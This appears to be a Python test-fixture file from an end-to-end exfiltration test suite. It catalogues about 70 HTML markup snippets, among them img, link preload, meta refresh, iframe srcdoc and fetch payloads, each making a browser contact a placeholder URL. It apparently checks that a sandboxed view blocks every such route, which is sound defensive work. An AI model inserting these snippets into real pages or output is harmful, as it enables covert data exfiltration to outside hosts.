"""Ways that lie in the document's own markup: no script of the view's has to run."""

from e2e.exfiltration.ways.way import Way

_TOP_ONLY = "browsers heed it in a tab's own document only"
_GONE = "no browser has it any more"
_IGNORED = "browsers ignore it in markup"
_PLAIN = "Playwright's browser never does it: see the plain browser's test"


def _link(name: str, rel: str, more: str = "", *, mute: str = "") -> Way:
    return Way(f"link-{name}", f'<link rel="{rel}" href="$URL" {more}>', mute=mute)


MARKUP = [
    # Pictures, sound, plug-ins
    Way("img", '<img src="$URL">'),
    Way("img-srcset", '<img srcset="$URL 1x">'),
    Way("img-sizes", '<img srcset="$URL 100w" sizes="10px">'),
    Way("picture-source", '<picture><source srcset="$URL"><img></picture>'),
    Way("image-element", '<image src="$URL">'),
    Way("input-image", '<input type="image" src="$URL">'),
    Way("body-background", '<body background="$URL">x'),
    Way("table-background", '<table background="$URL"><tr><td>x</table>'),
    Way("video-src", '<video src="$URL" autoplay muted></video>'),
    Way("video-poster", '<video poster="$URL"></video>'),
    Way("video-source", '<video autoplay muted><source src="$URL" type="video/mp4"></video>'),
    Way("audio-src", '<audio src="$URL" preload="auto"></audio>'),
    Way(
        "track",
        '<video id="v" crossorigin><track default kind="subtitles" src="$URL"></video>',
        "document.querySelector('track').track.mode = 'showing';",
    ),
    Way("embed", '<embed src="$URL">'),
    Way("object", '<object data="$URL"></object>'),
    Way("object-codebase", '<object codebase="http://$HOST/" data="x"></object>', mute=_GONE),
    Way("applet", '<applet code="x" codebase="http://$HOST/"></applet>', mute=_GONE),
    Way("bgsound", '<bgsound src="$URL">', mute=_GONE),
    Way("attributionsrc", '<img attributionsrc="$URL">', mute=_GONE),
    Way("model", '<model src="$URL"></model>', mute=_GONE),
    # Scripts
    Way("script-src", '<script src="$URL"></script>'),
    Way("script-module", '<script type="module" src="$URL"></script>'),
    Way("script-inline-import", '<script type="module">import "$URL"</script>'),
    Way(
        "import-map",
        '<script type="importmap">{"imports": {"x": "$URL"}}</script>'
        '<script type="module">import "x"</script>',
    ),
    Way(
        "speculation-prefetch",
        '<script type="speculationrules">'
        '{"prefetch": [{"urls": ["$URL"], "eagerness": "immediate"}]}</script>',
        mute=_TOP_ONLY,
    ),
    Way(
        "speculation-prerender",
        '<script type="speculationrules">'
        '{"prerender": [{"urls": ["$URL"], "eagerness": "immediate"}]}</script>',
        mute=_TOP_ONLY,
    ),
    # <link>
    _link("stylesheet", "stylesheet"),
    _link("alternate-stylesheet", "alternate stylesheet", 'title="x"'),
    _link("icon", "icon", mute=_TOP_ONLY),
    _link("shortcut-icon", "shortcut icon", mute=_TOP_ONLY),
    _link("apple-touch-icon", "apple-touch-icon", mute=_TOP_ONLY),
    _link("manifest", "manifest", mute=_TOP_ONLY),
    _link("prefetch", "prefetch"),
    _link("prerender", "prerender", mute=_GONE),
    _link("next", "next", mute=_GONE),
    _link("import", "import", mute=_GONE),
    _link("search", "search", 'type="application/opensearchdescription+xml"', mute=_TOP_ONLY),
    _link("pingback", "pingback", mute=_IGNORED),
    _link("compression-dictionary", "compression-dictionary"),
    _link("preload-image", "preload", 'as="image"'),
    _link("preload-script", "preload", 'as="script"'),
    _link("preload-style", "preload", 'as="style"'),
    _link("preload-font", "preload", 'as="font" crossorigin'),
    _link("preload-fetch", "preload", 'as="fetch" crossorigin'),
    Way("link-imagesrcset", '<link rel="preload" as="image" imagesrcset="$URL 1x">'),
    _link("modulepreload", "modulepreload"),
    _link("preconnect", "preconnect", mute=_PLAIN),
    _link("dns-prefetch", "dns-prefetch", mute=_PLAIN),
    # <base> and <meta>
    Way("base-img", '<base href="$URL"><img src="x">'),
    Way("base-script", '<base href="$URL"><script src="x"></script>'),
    Way("meta-refresh", '<meta http-equiv="refresh" content="0;url=$URL">'),
    Way(
        "meta-csp-report",
        '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri $URL">'
        '<img src="data:,x">',
        mute=_IGNORED,
    ),
    Way(
        "meta-link-header", '<meta http-equiv="Link" content="<$URL>; rel=preload">', mute=_IGNORED
    ),
    Way(
        "meta-reporting",
        '<meta http-equiv="Reporting-Endpoints" content=\'default="$URL"\'>',
        "document.domain = 'x';",
        mute=_IGNORED,
    ),
    Way("html-manifest", '<html manifest="$URL">', mute=_GONE),
    # Frames
    Way("iframe-src", '<iframe src="$URL"></iframe>'),
    Way("iframe-credentialless", '<iframe credentialless src="$URL"></iframe>'),
    Way("frameset", '<frameset><frame src="$URL"></frameset>'),
    Way("portal", '<portal src="$URL"></portal>', mute=_GONE),
    Way("iframe-data-img", "<iframe src=\"data:text/html,<img src='$URL'>\"></iframe>"),
    Way(
        "iframe-javascript",
        "<iframe src=\"javascript:fetch('$URL')\"></iframe>",
    ),
    Way("srcdoc-img", "<iframe srcdoc=\"<img src='$URL'>\"></iframe>"),
    Way("srcdoc-fetch", "<iframe srcdoc=\"<script>fetch('$URL')</script>\"></iframe>"),
    Way("srcdoc-navigates", "<iframe srcdoc=\"<script>location = '$URL'</script>\"></iframe>"),
    Way(
        "srcdoc-refresh",
        "<iframe srcdoc=\"<meta http-equiv='refresh' content='0;url=$URL'>\"></iframe>",
    ),
    Way("srcdoc-frame", "<iframe srcdoc=\"<iframe src='$URL'></iframe>\"></iframe>"),
    Way("srcdoc-base", "<iframe srcdoc=\"<base href='$URL'><img src='x'>\"></iframe>"),
    Way(
        "shadow-root",
        '<div><template shadowrootmode="open"><img src="$URL"></template></div>',
    ),
    Way("noscript", '<noscript><img src="$URL"></noscript>', mute="scripts run"),
]
